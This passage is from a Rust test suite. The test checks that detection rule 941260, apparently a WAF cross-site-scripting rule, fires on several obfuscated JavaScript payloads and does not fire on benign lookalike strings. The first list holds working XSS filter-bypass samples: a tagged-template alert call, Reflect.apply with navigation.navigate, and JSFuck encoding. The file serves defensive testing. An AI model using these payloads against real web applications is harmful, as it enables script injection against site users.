            "[ ] . /**/ sort . call ` ${ alert } 1337 `",
            "Reflect.apply.call`${navigation.navigate}${navigation}${[name]}`",
            "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]",
        ] {
            assert!(fires(941260, a), "missed {a}");
        }
        for b in [
            "window[key](args)",
            "the top ['a'] list (b)",
            "arr['name']",
            "\\n<script> is escaped",
            "function(a, b) { return a + b }",
            "a.constructor.name",
            "C:\\74 files",
            "call `document.write` or `window.open` sparingly",
            "String.raw`<b>`",
            "fn.call(this, `${a}`)",
            "+ADw-+AD4- is UTF-7 for <>",
            "C++ADw-3 rocks",
            "- [ ] todo\n- [ ] done",
            "if (!![] && !![]) {}",
            "(((((((((((((((((((((((())))))))))))))))))))))))",
        ] {
            assert!(!fires(941260, b), "flagged {b}");
        }
    }
}
